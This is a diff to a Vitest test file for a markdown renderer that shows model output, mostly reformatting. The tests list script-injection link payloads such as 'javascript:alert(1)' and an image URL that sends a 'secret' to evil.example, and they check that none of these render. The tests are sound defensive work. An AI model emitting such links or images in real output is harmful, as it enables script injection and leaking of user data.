@@ -1,10 +1,14 @@
+// @vitest-environment jsdom
 import { describe, expect, test } from 'vitest';
 import { MarkdownRenderer, type Tools } from './markdown';
 import { tex_to_mathml } from './mathml';
 import { split_thinking } from './thinking';
 
 function html(text: string, tools: Tools = {}): string {
-  return new MarkdownRenderer(tools).render(text).map((block) => block.html).join('');
+  return new MarkdownRenderer(tools)
+    .render(text)
+    .map((block) => block.html)
+    .join('');
 }
 
 // What a browser would make of it.
@@ -31,12 +35,16 @@ describe('what a model writes', () => {
     expect(made.textContent).toContain(hostile.slice(0, 10).trim());
   });
 
-  test.each(['javascript:alert(1)', 'JaVaScRiPt:alert(1)', 'data:text/html,x', 'vbscript:x', '//evil.example', 'file:///x'])(
-    'is no link to %s',
-    (href) => {
-      expect(page(`[click](${href})`).querySelector('a')).toBeNull();
-    },
-  );
+  test.each([
+    'javascript:alert(1)',
+    'JaVaScRiPt:alert(1)',
+    'data:text/html,x',
+    'vbscript:x',
+    '//evil.example',
+    'file:///x',
+  ])('is no link to %s', (href) => {
+    expect(page(`[click](${href})`).querySelector('a')).toBeNull();
+  });
 
   test('fetches no picture: it becomes a link', () => {
     const made = page('![secret](https://evil.example/?q=secret)');
@@ -112,7 +120,11 @@ describe('mathematics', () => {
 
 describe('thinking aloud', () => {
   test('is told apart from the answer', () => {
-    expect(split_thinking('<think>\nhm\n</think>\n\nYes.')).toEqual({ thinking: 'hm', answer: 'Yes.', thinks_still: false });
+    expect(split_thinking('<think>\nhm\n</think>\n\nYes.')).toEqual({
+      thinking: 'hm',
+      answer: 'Yes.',
+      thinks_still: false,
+    });
     expect(split_thinking('<think>hm')).toEqual({ thinking: 'hm', answer: '', thinks_still: true });
     expect(split_thinking('No <think>')).toEqual({ thinking: null, answer: 'No <think>', thinks_still: false });
     expect(split_thinking('<think></think>Yes').thinking).toBeNull();
